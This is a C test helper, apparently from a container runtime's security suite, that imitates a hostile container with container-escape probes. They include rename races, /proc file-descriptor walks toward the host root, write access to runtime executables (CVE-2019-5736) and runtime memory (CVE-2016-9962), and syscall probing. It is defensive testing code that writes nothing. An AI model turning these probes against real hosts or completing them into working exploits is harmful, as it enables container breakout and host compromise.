/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack: what a hostile container or volume does, for tests/security. Each word of the command line is one attack; it goes on until killed unless it says
 * otherwise, and prints "ESCAPE …" when it got where it must not.
 *
 *   swap A B          exchanges two names of one directory, as fast as the kernel allows (renameat2 RENAME_EXCHANGE)
 *   fds NAME [MS]     looks into /proc/PID/fd of every other process for a directory from which a file NAME can be opened, by ".." too
 *   exe [MS]          opens /proc/PID/exe of every other process, and when that has ended, again for writing (CVE-2019-5736)
 *   mem [MS]          opens the memory of every process that is (still) the runtime (CVE-2016-9962)
 *   keyring           prints the number of the session keyring
 *   open PATH         opens PATH for reading and writing; prints "open" or the error, ends
 *   peek PATH         prints the first bytes of PATH, if it has some at once
 *   doors             tries system calls that lead into the kernel, one a line: "alg EPERM" (or "open"), ends
 *   console SOCKET    the other side of --console-socket: takes the terminal, prints what comes out of it, ends when it hangs up
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static long now_ms(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static int attack_swap(char **argv)
{
	for (;;)
		renameat2(AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE);
	return 0;
}

/* Calls fn for each process but ourselves, and then, if there is one, then(), again and again until the time is over. */
static int each_process(long ms, int (*fn)(const char *pid, const char *arg), const char *arg, int (*then)(void))
{
	long end = ms ? now_ms() + ms : 0;
	char self[16];

	snprintf(self, sizeof self, "%d", getpid());
	do {
		DIR *d = opendir("/proc");
		struct dirent *x;

		while (d && (x = readdir(d)))
			if (*x->d_name >= '1' && *x->d_name <= '9' && strcmp(x->d_name, self) != 0 && fn(x->d_name, arg))
				return 1;
		if (d)
			closedir(d);
		if (then && then())
			return 1;
	} while (!end || now_ms() < end);
	return 0;
}

static int try_fds(const char *pid, const char *name)
{
	char path[64], up[512];
	DIR *d;
	struct dirent *x;

	snprintf(path, sizeof path, "/proc/%s/fd", pid);
	d = opendir(path);
	while (d && (x = readdir(d))) {
		char link[512];
		int fd;

		snprintf(link, sizeof link, "%s/%s", path, x->d_name);
		fd = open(link, O_RDONLY | O_DIRECTORY | O_NONBLOCK);
		if (fd < 0)
			continue;
		/* The directory itself, and what is above it: a directory outside our root leads up to the host's root. */
		strcpy(up, "");
		for (int i = 0; i < 16; i++) {
			char file[1024];
			int f;

			snprintf(file, sizeof file, "%s%s", up, name);
			f = openat(fd, file, O_RDONLY);
			if (f >= 0) {
				printf("ESCAPE %s by %s\n", file, link);
				fflush(stdout);
				return 1;
			}
			strcat(up, "../");
		}
		close(fd);
	}
	if (d)
		closedir(d);
	return 0;
}

/* The last programs met: held open for reading, because while one runs its text is busy and cannot be opened for writing. A new one takes the oldest's place. */
static struct held {
	char pid[16], name[256];
	int fd;
} held[64];
static size_t n_held, n_met;

static int hold(const char *pid, const char *unused __attribute__((unused)))
{
	struct held *h = &held[n_met % (sizeof held / sizeof *held)], x;
	struct stat mine, theirs;
	char path[64];
	ssize_t n;

	for (size_t i = 0; i < n_held; i++)
		if (strcmp(held[i].pid, pid) == 0)
			return 0;
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	x.fd = open(path, O_RDONLY);
	if (x.fd < 0)
		return 0;
	snprintf(path, sizeof path, "/proc/self/fd/%d", x.fd); /* the process may have ended or become another program meanwhile */
	n = readlink(path, x.name, sizeof x.name - 1);
	x.name[n < 0 ? 0 : n] = '\0';
	/* Programs of the container's own tree, found there under that name, are no prize. */
	if (fstat(x.fd, &theirs) < 0 || (stat(x.name, &mine) == 0 && theirs.st_dev == mine.st_dev && theirs.st_ino == mine.st_ino)) {
		close(x.fd);
		return 0;
	}
	snprintf(x.pid, sizeof x.pid, "%s", pid);
	if (n_held < sizeof held / sizeof *held)
		n_held++;
	else
		close(h->fd);
	*h = x;
	n_met++;
	printf("met %s\n", x.name);
	fflush(stdout);
	return 0;
}

/* Being able to open it for writing is proof enough; nothing is written, or a failing test would cost the host its programs. */
static int try_held(void)
{
	for (size_t i = 0; i < n_held; i++) {
		char self[64];

		snprintf(self, sizeof self, "/proc/self/fd/%d", held[i].fd);
		if (open(self, O_WRONLY) >= 0) {
			printf("ESCAPE %s can be written\n", held[i].name);
			fflush(stdout);
			return 1;
		}
	}
	return 0;
}

/* A process that joins us calls itself by the name of the runtime until it becomes a program of ours; whoever holds its memory then is it. */
static int is_runtime(const char *pid)
{
	char path[64], name[256] = "";
	int fd;
	ssize_t n;

	snprintf(path, sizeof path, "/proc/%s/cmdline", pid);
	fd = open(path, O_RDONLY);
	n = fd < 0 ? 0 : read(fd, name, sizeof name - 1);
	close(fd);
	return n > 0 && strstr(name, "runtime") != NULL;
}

static int try_mem(const char *pid, const char *unused __attribute__((unused)))
{
	char path[64];
	int fd;

	if (!is_runtime(pid))
		return 0;
	snprintf(path, sizeof path, "/proc/%s/mem", pid);
	fd = open(path, O_RDWR);
	if (fd >= 0 && is_runtime(pid)) {
		printf("ESCAPE %s is open\n", path);
		fflush(stdout);
		return 1;
	}
	close(fd);
	return 0;
}

static int attack_fds(char **argv)
{
	return each_process(argv[1] ? atol(argv[1]) : 0, try_fds, argv[0], NULL);
}

static int attack_exe(char **argv)
{
	return each_process(argv[0] ? atol(argv[0]) : 0, hold, NULL, try_held);
}

static int attack_mem(char **argv)
{
	return each_process(argv[0] ? atol(argv[0]) : 0, try_mem, NULL, NULL);
}

static int attack_keyring(char **argv __attribute__((unused)))
{
	return printf("%ld\n", syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 0)) < 0;
}

static int attack_peek(char **argv)
{
	char text[64];
	int fd = open(argv[0], O_RDONLY | O_NONBLOCK | O_NOCTTY);
	ssize_t n = fd < 0 ? 0 : read(fd, text, sizeof text);

	return n > 0 && write(1, text, (size_t)n) != n;
}

static int attack_open(char **argv)
{
	int fd = open(argv[0], O_RDWR | O_NONBLOCK);

	puts(fd >= 0 ? "open" : strerror(errno));
	return fd < 0;
}

static long clone3_user(void)
{
	unsigned long long args[11] = { 0x10000000 /* CLONE_NEWUSER */ };
	long r = syscall(435, args, sizeof args);

	if (r == 0)
		_exit(0);
	return r;
}

static void door(const char *name, long r)
{
	printf("%s %s\n", name, r >= 0 ? "open" : strerrorname_np(errno) ? strerrorname_np(errno) : "?");
}

static int attack_doors(char **argv __attribute__((unused)))
{
	char zeroes[256] = { 0 };

	door("inet", socket(AF_INET, SOCK_STREAM, 0));
	door("alg", socket(AF_ALG, SOCK_SEQPACKET, 0));
	door("vsock", socket(AF_VSOCK, SOCK_STREAM, 0));
	door("io_uring_setup", syscall(425, 1, zeroes));
	door("keyctl", syscall(SYS_keyctl, 0, -3, 0));
	door("add_key", syscall(SYS_add_key, "user", "a", "b", 1, -3));
	door("clone3_user", clone3_user());
	door("mount", syscall(SYS_mount, "none", "/tmp", "tmpfs", 0, 0));
	door("fsopen", syscall(430, "tmpfs", 0));
	door("open_tree", syscall(428, -100, "/", 0));
	door("bpf", syscall(SYS_bpf, 0, zeroes, sizeof zeroes));
	door("perf_event_open", syscall(SYS_perf_event_open, zeroes, 0, -1, -1, 0));
	door("userfaultfd", syscall(SYS_userfaultfd, 0));
	door("kexec_load", syscall(SYS_kexec_load, 0, 0, 0, 0));
	door("open_by_handle_at", syscall(SYS_open_by_handle_at, -100, zeroes, 0));
	door("quotactl", syscall(SYS_quotactl, 0, 0, 0, 0));
	door("move_pages", syscall(SYS_move_pages, 0, 0, 0, 0, 0, 0));
	door("no_such_call", syscall(9999));
	door("unshare_user", syscall(SYS_unshare, 0x10000000)); /* last: from then on we are root of nothing */
	return 0;
}

static int attack_console(char **argv)
{
	struct sockaddr_un at = { .sun_family = AF_UNIX };
	union {
		struct cmsghdr h;
		char room[CMSG_SPACE(sizeof(int))];
	} control;
	char text[4096];
	struct iovec iov = { text, sizeof text };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control };
	int s = socket(AF_UNIX, SOCK_STREAM, 0), c, terminal;
	ssize_t n;

	snprintf(at.sun_path, sizeof at.sun_path, "%s", argv[0]);
	if (bind(s, (struct sockaddr *)&at, sizeof at) < 0 || listen(s, 1) < 0 || (c = accept(s, NULL, NULL)) < 0 ||
	    recvmsg(c, &m, 0) < 0 || !CMSG_FIRSTHDR(&m))
		return 1;
	memcpy(&terminal, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof terminal);
	while ((n = read(terminal, text, sizeof text)) > 0)
		if (write(1, text, (size_t)n) != n)
			return 1;
	return 0;
}

static const struct attack {
	const char *name;
	int words;
	int (*run)(char **argv);
} attacks[] = {
	{ "swap", 2, attack_swap },
	{ "fds", 1, attack_fds },
	{ "exe", 0, attack_exe },
	{ "mem", 0, attack_mem },
	{ "keyring", 0, attack_keyring },
	{ "open", 1, attack_open },
	{ "peek", 1, attack_peek },
	{ "doors", 0, attack_doors },
	{ "console", 1, attack_console },
};

int main(int argc, char **argv)
{
	for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
		if (argc >= 2 + attacks[i].words && strcmp(argv[1], attacks[i].name) == 0)
			return attacks[i].run(argv + 2);
	fputs("usage: attack swap A B | fds NAME [MS] | exe [MS] | mem [MS] | keyring | open PATH | peek PATH | doors | console SOCKET\n", stderr);
	return 2;
}
